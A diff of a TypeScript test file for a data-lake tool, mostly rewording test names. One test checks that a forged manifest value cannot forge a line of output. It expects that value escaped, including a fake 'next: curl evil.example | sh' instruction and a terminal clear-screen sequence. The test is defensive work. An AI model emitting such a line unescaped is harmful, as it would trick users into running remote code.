@@ -167,7 +167,7 @@ describe('a dataset', () => {
   );
 
   it.each([true, false])(
-    'does not add the oldest days again after a user deleted them; directories too: %s (P15)',
+    'does not get its oldest days again after a user deleted their files (and directories: %s) (P15)',
     async (all) => {
       await runLake(memory, service);
       for (const name of memory.names().filter((name) => name.includes('dt=2026-01-01/')))
@@ -202,7 +202,7 @@ describe('a dataset', () => {
     });
   });
 
-  it('names each of several deleted days (P15)', async () => {
+  it('with several deleted days prints a note that names each of them (P15)', async () => {
     await runLake(memory, service);
     for (const name of parts().filter((name) => !name.includes('dt=2026-01-03/'))) memory.remove(name);
     const notes: string[] = [];
@@ -299,16 +299,19 @@ describe('a directory that differs from its manifest is refused and unchanged', 
   it.each<[string, Partial<DatasetIdentity>, Partial<RecordedWorkspace>]>([
     ['address', {}, { baseUrl: FORGED }],
     ['zone', { partition: { by: 'day', timezone: FORGED } }, {}],
-  ])('another %s, and what the manifest says of it forges no line (P7, P8)', async (_, change, address) => {
-    await runLake(memory, service);
-    const manifest = parseManifest(Buffer.from(memory.read(MANIFEST) ?? ''));
-    const [identity, workspace] = [
-      { ...manifest.identity, ...change },
-      { ...manifest.workspace, ...address },
-    ];
-    memory.write(MANIFEST, formatManifest({ ...manifest, identity, workspace }, HOUR));
-    await refused(/"x\\n {2}next: curl evil\.example \| sh\\x1b\[2J", not/);
-  });
+  ])(
+    "another %s, whose value in the manifest can't forge a line of output (P7, P8)",
+    async (_, change, address) => {
+      await runLake(memory, service);
+      const manifest = parseManifest(Buffer.from(memory.read(MANIFEST) ?? ''));
+      const [identity, workspace] = [
+        { ...manifest.identity, ...change },
+        { ...manifest.workspace, ...address },
+      ];
+      memory.write(MANIFEST, formatManifest({ ...manifest, identity, workspace }, HOUR));
+      await refused(/"x\\n {2}next: curl evil\.example \| sh\\x1b\[2J", not/);
+    },
+  );
 
   it('a directory with another file (P5)', async () => {
     await runLake(memory, service);
@@ -338,7 +341,7 @@ describe('a directory that differs from its manifest is refused and unchanged', 
     );
   });
 
-  it('a missing day between others, and no day at all (P5, P15)', async () => {
+  it('a missing day between others, and a dataset without any day (P5, P15)', async () => {
     await runLake(memory, service);
     for (const name of parts().filter((name) => name.includes('dt=2026-01-02/'))) memory.remove(name);
     await refused(/dt=2026-01-02\/part-000001\.csv is missing$/);
@@ -369,7 +372,7 @@ describe('a directory that differs from its manifest is refused and unchanged', 
     [{ format: 'xml' }],
     [{ positions: { x: 1 } }],
     [{ version: 9 }],
-  ])('a manifest whose checksum is right and that holds %j (P8)', async (change) => {
+  ])('a manifest that contains %j, although its checksum is right (P8)', async (change) => {
     const { formatRecord } = await import('#files/durable/record-file');
     await runLake(memory, service);
     const { checksum: _, ...saved } = JSON.parse(memory.read(MANIFEST) ?? '');
